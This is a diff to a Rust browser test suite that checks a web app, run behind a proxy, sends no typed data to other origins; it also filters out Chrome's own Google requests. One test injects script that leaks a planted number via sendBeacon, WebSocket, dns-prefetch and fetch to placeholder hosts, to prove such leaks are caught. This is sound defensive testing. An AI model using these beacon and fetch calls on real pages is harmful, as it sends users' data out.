@@ -5,7 +5,7 @@
 use super::harness::{ANSWER, PATIENCE, Page, left_out};
 use crate::fitting::quiz;
 use serde_json::{Value, json};
-use topup_guard_drive::{LANGS, Proxy, Setup, VIEWS};
+use topup_guard_drive::{Asked, LANGS, Proxy, Setup, VIEWS};
 
 /// What a person types that is nobody's business. Digits and words that stand nowhere in our content.
 const NUMBER: &str = "13807314629";
@@ -36,8 +36,26 @@ const LISTENER: &str = "(() => {
     }).observe(document, { childList: true, subtree: true });
   })();";
 
-/// What keeps the browser itself from asking its maker what fields a page has, and who is signed in.
+/// What keeps Chrome itself from asking what fields a page has, and who is signed in.
 const QUIET: [&str; 2] = ["--disable-features=AutofillServerCommunication", "--allow-browser-signin=false"];
+/// Where Chrome asks for things of its own all the same, whatever page is open. What a page asks of these is among its requests,
+/// which every test looks at: see [`Page::complaints`].
+const MAKER: [&str; 4] = ["google.com", "googleapis.com", "gstatic.com", "gvt1.com"];
+
+/// What was asked so far, without what Chrome asks its maker.
+fn asked(proxy: &Proxy) -> Vec<Asked> {
+    let maker = |one: &Asked| {
+        let target = one.line.split(' ').nth(1).unwrap_or_default();
+        let host = target
+            .split_once("://")
+            .map_or(target, |(_, rest)| rest)
+            .split([':', '/'])
+            .next()
+            .unwrap_or_default();
+        MAKER.iter().any(|maker| host == *maker || host.ends_with(&format!(".{maker}")))
+    };
+    proxy.asked().into_iter().filter(|one| !maker(one)).collect()
+}
 
 /// A phone whose every request goes through the proxy, with the listener in each page.
 fn behind() -> Option<(Proxy, Page)> {
@@ -91,7 +109,7 @@ fn nothing_goes_out_in_any_view_nor_in_a_round() {
     for lang in LANGS {
         page.view(lang, "home");
         page.kept();
-        let before = proxy.asked().len();
+        let before = asked(&proxy).len();
         for view in VIEWS {
             page.run(&format!("location.hash = '#/v1/{view}';"));
             page.session
@@ -117,16 +135,19 @@ fn nothing_goes_out_in_any_view_nor_in_a_round() {
         let told: Vec<_> = left.iter().filter(|line| !kept(line) && secret(line)).collect();
         assert!(told.is_empty(), "{lang}: {told:?}");
         assert!(left.iter().any(|line| kept(&line)), "the answers were kept: {left:?}");
-        // Once the page and what it keeps are there, a walk through all of it needs nothing more.
-        let later: Vec<_> = proxy.asked().split_off(before).into_iter().map(|one| one.line).collect();
-        let ours = |line: &&String| line.contains("/v1/assets/");
+        // Once the page and what it keeps are there, a walk through all of it needs nothing more; a browser looks for a newer
+        // worker when it likes.
+        let later: Vec<_> = asked(&proxy).split_off(before).into_iter().map(|one| one.line).collect();
+        let ours = |line: &&String| line.contains("/v1/assets/") || line.contains("/sw.js ");
         assert_eq!(later.iter().filter(|line| !ours(line)).count(), 0, "{lang}: {later:?}");
     }
-    let asked = proxy.asked();
+    let asked = asked(&proxy);
     assert!(asked.iter().any(|one| one.line.contains(".wasm")), "the proxy saw the program: {asked:?}");
     for one in asked {
         assert!(one.passed, "to another origin: {}", one.line);
+        // A browser that looks for a newer worker says which one it has.
         let head = one.head.to_ascii_lowercase();
+        let head = head.replace(&format!("referer: {}/sw.js\r\n", page.server.origin()), "");
         assert!(!head.contains("referer:") && !head.contains("cookie:"), "{}\n{head}", one.line);
         assert!(one.body.is_empty() && !secret(&one.line) && !secret(&head), "{}\n{head}", one.line);
     }
@@ -144,6 +165,7 @@ fn what_goes_out_would_be_seen() {
         "navigator.sendBeacon('http://a.example/beacon', '{NUMBER}');
          new RTCPeerConnection();
          const socket = new WebSocket('wss://b.example/socket');
+         const refused = new Promise((done) => (socket.onerror = done));
          const link = document.createElement('link');
          link.rel = 'dns-prefetch';
          link.href = '//c.example';
@@ -151,7 +173,7 @@ fn what_goes_out_would_be_seen() {
          console.log('{NUMBER}');
          history.replaceState('{WORDS}', '');
          await fetch('http://d.example/{WORDS}').catch(() => {{}});
-         await new Promise((done) => (socket.onerror = done));",
+         await refused;",
     ));
     let [out, left] = said(&page);
     for what in [
